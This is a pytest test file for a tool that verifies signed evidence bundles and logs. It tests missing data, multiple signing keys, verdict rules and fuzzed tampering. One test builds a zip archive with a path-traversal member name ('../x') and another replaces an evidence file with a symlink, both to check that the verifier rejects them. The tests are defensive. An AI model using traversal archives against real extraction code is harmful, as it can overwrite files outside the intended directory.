    assert [layer.state for layer in layers] == ["unknown", "open", *["unknown"] * 5, *["open"] * 3, "ok"]
    assert worst(checked(store, signer, anchors=(anchor,)))[1].endswith("it has no checkpoint")


def test_a_store_whose_whole_log_is_gone(three: Store, signer: Signer, tmp_path: Path) -> None:
    """A first scan that was killed leaves parts, too: it is no accusation, and not the words for an empty store."""
    for folder in ("log", "checkpoints"):
        shutil.rmtree(tmp_path / "store" / folder)
    (tmp_path / "store/checkpoint").unlink()
    layers = checked(three, signer)
    assert layers[0].said == (
        "nothing has been sealed in it yet; parts of run-0000, run-0001, run-0002 lie there, "
        "in no entry: of a scan at work, or killed, or of another log"
    )
    assert conclude(layers)[0] == 2


def test_a_bundle_of_fewer_runs_says_so(four: Store, signer: Signer, tmp_path: Path) -> None:
    export(four, RUNS[1:2], tmp_path / "one.zip")
    assert said_of(checked(tmp_path / "one.zip", signer), "log").startswith(
        "4 entries without a gap, 1 of its 4 runs here"
    )


def test_runs_of_two_keys(three: Store, signer: Signer, p256: Signer) -> None:
    seal(three, p256, spool(three, 3, answers(3, 1)), a_run(3), now=clock(3), trusted=[signer.public])
    layers = checked(three, signer, p256)
    assert layer_of(layers, "signature") == Layer("signature", "ok", "4 envelopes, 2 keys that you trust")
    assert worst(checked(three, signer))[0] == "signature"


def test_no_such_file(tmp_path: Path) -> None:
    assert worst(checked(tmp_path / "none.zip"))[1] == "none.zip cannot be read: No such file or directory"
    assert worst(checked(tmp_path))[1].endswith("is not there, or is no store of safeguard's")


# Conclusions


def test_a_layer_that_was_not_checked_is_not_verified() -> None:
    good = [Layer(name, "ok", "") for name in LAYERS]
    assert conclude(good)[0] == 0
    for layers in ([], good[:4], good[1:], [good[0], good[0]]):
        assert conclude(layers) == (1, "NOT VERIFIED. Not every layer was checked.")


def test_a_failure_is_worse_than_a_doubt() -> None:
    states: dict[str, Any] = {"signature": "unknown", "evidence": "fails", "log": "skipped", "unsigned": "open"}
    layers = [Layer(name, states.get(name, "ok"), "") for name in LAYERS]
    assert conclude(layers) == (1, "NOT VERIFIED. The evidence was changed after it was signed.")


@pytest.mark.parametrize("name", LAYERS)
@pytest.mark.parametrize(("state", "code"), [("ok", 0), ("unknown", 2), ("fails", 1), ("skipped", 1)])
def test_no_layer_is_passed_over(name: str, state: Any, code: int) -> None:
    layers = [Layer(each, state if each == name else "ok", "") for each in LAYERS]
    assert conclude(layers)[0] == (5 if (name, state) == ("signature", "unknown") else code)
    assert conclude(layers)[1].startswith("Verified.") == (code == 0)


@given(data=st.data())
def test_no_change_is_called_verified(
    bundle: Path, signer: Signer, four: Store, tmp_path_factory: pytest.TempPathFactory, data: st.DataObject
) -> None:
    """Any member may be anything at all, with manifests that fit: it is refused, or it was the same."""
    payload = unpack(bundle)
    name = data.draw(st.sampled_from(sorted(payload)))
    old = payload[name]
    at = data.draw(st.integers(0, len(old)))
    payload[name] = old[:at] + data.draw(st.binary(max_size=3)) + old[data.draw(st.integers(at, len(old))) :]
    path = pack(payload, tmp_path_factory.mktemp("x") / "x.zip")
    layers = checked(path, signer, anchors=(four.read(log.checkpoint_key(3)),))
    if conclude(layers)[0] == 0:
        assert meaning(payload) == meaning(unpack(bundle))


def meaning(payload: Payload) -> dict[str, bytes]:
    """A gzip header and the wrapping of a PEM may change; what they hold may not."""
    found = {}
    for name, data in payload.items():
        found[name] = gzip.decompress(data) if name.endswith(".gz") else data
        if name.endswith(".pem"):
            found[name] = keys.from_pem(data, name)
    return found


def test_zip_members_are_checked_before_all_else(bundle: Path, signer: Signer, tmp_path: Path) -> None:
    with zipfile.ZipFile(tmp_path / "x.zip", "w") as archive:
        archive.writestr("../x", b"")
    assert worst(checked(tmp_path / "x.zip", signer))[0] == "container"
    with open_bundle(bundle) as found:
        assert checked(found, signer) == checked(bundle, signer)


def test_what_cannot_be_read_is_no_forgery(signer: Signer, tmp_path: Path) -> None:
    store = open_store(tmp_path / "store", create=True, origin=ORIGIN)
    seal_run(store, signer, 0)
    (answers,) = tmp_path.rglob("evidence-1.jsonl.gz")
    answers.rename(answers.with_name("elsewhere"))
    answers.symlink_to("elsewhere")
    layers = checked(store, signer)
    assert {layer.name for layer in layers if layer.state == "fails"} >= {"evidence"}
    assert conclude(layers) == (1, "NOT VERIFIED. Not all of it could be read, so nobody knows whether it was changed.")


def test_statements_that_would_fill_the_memory(three: Store, signer: Signer, monkeypatch: pytest.MonkeyPatch) -> None:
    """Those of all runs that are there are held: the ordinary ones however many, of larger ones so many bytes."""
    size = max(len(three.read(key)) for key in three.list("log/"))
    for large, most, wrong in ((size + 9, 0, False), (0, 4 * size, False), (0, 2 * size, True)):
        monkeypatch.setattr("scanner.evidence.layers.seen._LARGE", large)
        monkeypatch.setattr("scanner.evidence.layers.seen._MAX_LARGE", most)
        layers = list(verify(three, Trust(frozenset({signer.keyid})), judge))
        found = next(layer for layer in layers if layer.name == "signature")
        assert (found.state == "fails") is wrong
        assert ("its larger statements take more than" in found.said) is wrong
